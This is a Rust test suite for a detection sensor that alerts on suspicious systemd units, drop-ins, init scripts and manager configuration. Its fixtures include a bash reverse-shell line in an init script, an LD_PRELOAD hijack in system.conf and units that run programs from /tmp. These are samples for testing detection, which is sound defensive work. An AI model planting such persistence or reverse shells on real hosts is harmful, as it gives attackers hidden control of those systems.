//! What files say, and what the service manager starts.

use super::*;

const UNIT: &str = "/etc/systemd/system/evil.service";
const SERVICE_GROUP: u64 = 900;

/// PID 1 forks a process into `unit`'s group, and it executes `program`.
fn start(machine: &mut Machine, pid: u32, unit: &str, program: &str) {
    machine.user(
        kind::CGROUP_SNAPSHOT,
        &CgroupSnapshot { id: SERVICE_GROUP, path: format!("/system.slice/{unit}") },
    );
    let child = machine.fork(init(), pid);
    machine.exec(TaskContext { cgroup_id: SERVICE_GROUP, ..child }, program, 9000, &[program]);
}

fn changes(alert: &Alert) -> String {
    alert.unit.as_ref().map(|unit| unit.changes.join("\n")).unwrap_or_default()
}

#[test]
fn an_alert_tells_what_a_unit_will_run_once_its_file_was_read() {
    let mut machine = Machine::new();
    machine.answers = false;
    machine
        .files
        .insert(UNIT.into(), text_file("[Service]\nExecStart=-/tmp/x --now\nExecStopPost=/bin/true\n"));
    machine.write(shell(), SYSTEM, "evil.service");
    assert!(machine.alerts().is_empty(), "it waits");
    let wants: Vec<Want> = machine.pipeline.wants().collect();
    assert_eq!(wants, [Want::File { path: UNIT.into(), expected: Expected::Inode(4711) }]);
    machine.answer(wants[0].clone());
    assert!(machine.alerts().is_empty(), "it waits for the program as well");
    let wants: Vec<Want> = machine.pipeline.wants().collect();
    assert!(matches!(&wants[..], [Want::Survey { paths, .. }] if *paths == [b"/tmp/x"]), "{wants:?}");
    machine.answer(wants[0].clone());
    let alert = machine.one();
    assert_eq!(alert.actions, ["file_create", "file_open_write", "file_close_write"]);
    assert!(reasons(&alert).contains("+15 /tmp/x lies where everybody may write"), "{}", reasons(&alert));
    let changes = changes(&alert);
    assert!(changes.contains("/tmp/x --now") && changes.contains("/bin/true"), "{changes}");
    assert_eq!(alert.unit.expect("a unit").signals, ["path.world-writable"]);
    assert_eq!(alert.severity, crate::detect::rule::Severity::Critical);
}

#[test]
fn a_file_that_is_never_read_delays_no_alert_for_long() {
    let mut machine = Machine::new();
    machine.answers = false;
    machine.write(shell(), SYSTEM, "evil.service");
    machine.rename(shell(), (NONE, "/tmp/x"), (SYSTEM, "moved.service"));
    machine.tick(260 * MS);
    assert_eq!(machine.rules(), ["systemd.unit.written", "systemd.unit.written"]);
}

#[test]
fn of_a_changed_unit_only_what_is_new_is_told() {
    let mut machine = Machine::new();
    machine.baseline(UNIT, "[Service]\nExecStart=/usr/bin/old\n");
    assert!(machine.alerts().is_empty(), "what was there is no finding");
    machine.files.insert(
        b"/etc/systemd/system/evil.service.d/x.conf".to_vec(),
        text_file("[Service]\nExecStartPre=/tmp/new\n"),
    );
    machine.write(shell(), SYSTEM, "evil.service.d/x.conf");
    let changes = changes(&machine.one());
    assert!(changes.contains("/tmp/new") && !changes.contains("/usr/bin/old"), "{changes}");
}

#[test]
fn a_directory_of_drop_ins_is_told_with_what_it_holds() {
    let mut machine = Machine::new();
    let directory = "/etc/systemd/system/evil.service.d";
    machine.files.insert(
        directory.into(),
        Found::Directory { names: vec![crate::event::content::Name(b"x.conf".to_vec())], truncated: false },
    );
    machine.files.insert(
        format!("{directory}/x.conf").into_bytes(),
        text_file("[Service]\nExecStart=\nExecStart=/tmp/payload\n"),
    );
    machine.rename(shell(), (NONE, "/root/d"), (SYSTEM, "evil.service.d"));
    machine.tick(300 * MS);
    let alerts = machine.alerts();
    assert!(alerts.iter().any(|alert| changes(alert).contains("/tmp/payload")), "{alerts:#?}");
}

#[test]
fn a_directory_is_weighed_once_with_all_that_it_holds() {
    let mut machine = Machine::new();
    let directory = "/etc/systemd/system/evil.service.d";
    let names = (100..200).map(|number| format!("{number}.conf"));
    let names: Vec<_> = names.map(|name| crate::event::content::Name(name.into_bytes())).collect();
    for name in &names {
        let text = [&b"[Service]\nExecStartPre=/tmp/payload-"[..], &name.0].concat();
        let path = [directory.as_bytes(), b"/", &name.0].concat();
        machine.files.insert(path, text_file(std::str::from_utf8(&text).unwrap()));
    }
    machine.files.insert(directory.into(), Found::Directory { names, truncated: true });
    machine.rename(shell(), (NONE, "/root/d"), (SYSTEM, "evil.service.d"));
    let alert = machine.one();
    assert!(changes(&alert).contains("/tmp/payload-100.conf"), "{}", changes(&alert));
    let reason = "it holds more than the 100 files that were looked at";
    assert!(alert.reasons.iter().any(|own| own.text == reason && own.points > 0), "{:?}", alert.reasons);
    machine.tick(60 * SECOND);
    assert!(machine.alerts().is_empty(), "all of it was in the first");
}

#[test]
fn a_burst_of_changes_is_told_without_putting_each_unit_together() {
    let mut machine = Machine::new();
    for number in 0..600 {
        let name = format!("burst-{number}.service");
        let path = format!("/etc/systemd/system/{name}");
        machine.files.insert(path.into_bytes(), text_file("[Service]\nExecStart=/tmp/payload\n"));
        machine.write(shell(), SYSTEM, &name);
    }
    machine.tick(SECOND);
    let alerts = machine.alerts();
    assert_eq!(alerts.len(), 600);
    let looked = alerts.iter().filter(|alert| changes(alert).contains("/tmp/payload")).count();
    let said = |alert: &&Alert| alert.reasons.iter().any(|reason| reason.text.contains("was not looked at"));
    let passed_over = alerts.iter().filter(said).count();
    assert!(looked >= 100 && passed_over >= 100, "{looked} and {passed_over}");
    assert_eq!(looked + passed_over, 600);
    let table = machine.pipeline.stats().tables.into_iter().find(|table| table.name == "awaited_contents");
    assert_eq!(table.unwrap().evicted, passed_over as u64);
}

#[test]
fn what_scripts_and_configuration_say_counts_too() {
    let mut machine = Machine::new();
    machine.files.insert(
        b"/etc/init.d/evil".to_vec(),
        text_file("#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n"),
    );
    machine.write(shell(), INIT_D, "evil");
    let alert = machine.one();
    assert_eq!(alert.unit.expect("a script").signals, ["command.reverse-shell"]);
    assert_eq!(alert.severity, crate::detect::rule::Severity::Critical);

    let conf = "/etc/systemd/system.conf";
    machine.user(
        kind::WATCH,
        &Watch { watch: 70, path: conf.into(), class: Some(WatchClass::ManagerConfig), owner: None },
    );
    machine.files.insert(conf.into(), text_file("[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n"));
    let close = machine.record(kind::FILE_CLOSE_WRITE, shell()).path(70, sensor_common::watch::FILE, b"x");
    machine.feed(close.build());
    let alert = machine.one();
    assert_eq!(alert.rule.id, "systemd.manager-config.written");
    assert!(!alert.unit.as_ref().expect("configuration").signals.is_empty(), "{}", reasons(&alert));
    assert!(alert.techniques().any(|technique| technique.id == "T1574.006"));

    let unit = b"/etc/systemd/system/systemd-evil.service".to_vec();
    machine.files.insert(unit, text_file("[Service]\nExecStart=/bin/true\n"));
    machine.write(shell(), SYSTEM, "systemd-evil.service");
    let ids: Vec<&str> = machine.one().techniques().map(|technique| technique.id).collect();
    assert_eq!(ids, ["T1543.002", "T1036.004"]);

    machine.baseline("/usr/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron\n");
    let unit = b"/etc/systemd/system/cron-.service".to_vec();
    machine.files.insert(unit, text_file("[Service]\nExecStart=/bin/true\n"));
    machine.write(shell(), SYSTEM, "cron-.service");
    assert_eq!(machine.one().unit.expect("a unit").signals, ["name.look-alike"]);
}

#[test]
fn what_a_unit_leads_to_is_watched_from_then_on() {
    use crate::detect::follow::Follow;

    let mut machine = Machine::new();
    let end = text_file(
        "[Service]\nExecStart=/opt/app/run --x\nExecStartPre=/bin/sh -e /opt/app/pre.sh\n\
         ExecStartPost=/bin/touch /opt/app/started\n",
    );
    machine.files.insert(
        UNIT.into(),
        Found::Symlink { target: b"/opt/app/evil.service".to_vec(), end: Box::new(end) },
    );
    machine.symlink(shell(), SYSTEM, "evil.service", "/opt/app/evil.service");
    assert_eq!(machine.rules(), ["systemd.unit.linked"]);
    let follows: Vec<Follow> = machine.pipeline.follows().collect();
    let expected = [
        ("/opt/app/evil.service", WatchClass::LinkedUnit),
        ("/opt/app/pre.sh", WatchClass::ServiceProgram),
        ("/opt/app/run", WatchClass::ServiceProgram),
    ];
    let mut told: Vec<_> = follows.iter().map(|follow| (follow.path.as_str(), follow.class)).collect();
    told.sort_unstable_by_key(|(path, _)| *path);
    assert_eq!(told, expected);
    for (watch, (path, class)) in (50..).zip(expected) {
        machine.user(kind::WATCH, &Watch { watch, path: path.into(), class: Some(class), owner: None });
        let record =
            machine.record(kind::FILE_CLOSE_WRITE, shell()).path(watch, sensor_common::watch::FILE, b"x");
        machine.feed(record.build());
    }
    assert_eq!(
        machine.rules(),
        ["systemd.unit.written", "systemd.program.written", "systemd.program.written"]
    );
    assert_eq!(machine.pipeline.follows().count(), 0, "each once");
}

#[test]
fn a_known_service_starts_quietly() {
    let mut machine = Machine::new();
    machine.baseline(UNIT, "[Service]\nExecStart=/usr/bin/old\n");
    start(&mut machine, 2000, "evil.service", "/usr/bin/old");
    assert!(machine.alerts().is_empty());
    // So does one that was written under the sensor's eyes.
    let path = "/etc/systemd/system/new.service";
    machine.files.insert(path.into(), text_file("[Service]\nExecStart=/usr/bin/new\n"));
    machine.write(shell(), SYSTEM, "new.service");
    assert_eq!(machine.rules(), ["systemd.unit.written"]);
    machine.tick(60 * SECOND);
    start(&mut machine, 2001, "new.service", "/usr/bin/new");
    assert!(machine.alerts().is_empty());
}

#[test]
fn a_file_that_nobody_was_seen_writing_is_a_finding_when_it_takes_effect() {
    let mut machine = Machine::new();
    machine.baseline(UNIT, "[Service]\nExecStart=/usr/bin/old\n");
    machine.files.insert(UNIT.into(), text_file("[Service]\nExecStart=/tmp/raw\n"));
    start(&mut machine, 2000, "evil.service", "/tmp/raw");
    let alert = machine.one();
    assert_eq!(alert.rule.id, "systemd.unit.changed-unseen");
    assert_eq!(
        alert.summary,
        format!(
            "raw (pid 2000, root, login alice) runs as evil.service because of {UNIT}, which nobody was seen writing"
        )
    );
    let changes = changes(&alert);
    assert!(changes.contains("/tmp/raw") && changes.contains("/usr/bin/old"), "{changes}");
    // It is known from now on.
    machine.tick(60 * SECOND);
    start(&mut machine, 2001, "evil.service", "/tmp/raw");
    assert!(machine.alerts().is_empty());
}

#[test]
fn a_service_without_a_file_is_a_finding() {
    let mut machine = Machine::new();
    start(&mut machine, 2000, "ghost.service", "/usr/bin/ghost");
    let alert = machine.one();
    assert_eq!(alert.rule.id, "systemd.service.unexplained");
    assert!(
        alert.summary.ends_with("runs as ghost.service, of which there is no unit file"),
        "{}",
        alert.summary
    );
}

#[test]
fn what_a_generator_made_and_what_is_no_service_stay_quiet() {
    let mut machine = Machine::new();
    machine.files.insert(
        b"/run/systemd/generator/made.service".to_vec(),
        text_file("[Service]\nExecStart=/usr/bin/made\n"),
    );
    start(&mut machine, 2000, "made.service", "/usr/bin/made");
    start(&mut machine, 2001, "session-9.scope", "/usr/bin/sh");
    // A child of the service is not its beginning.
    let child = machine.fork(task(2000, PID1), 2002);
    machine.exec(TaskContext { cgroup_id: SERVICE_GROUP, ..child }, "/usr/bin/child", 9001, &["child"]);
    assert!(machine.alerts().is_empty());
}
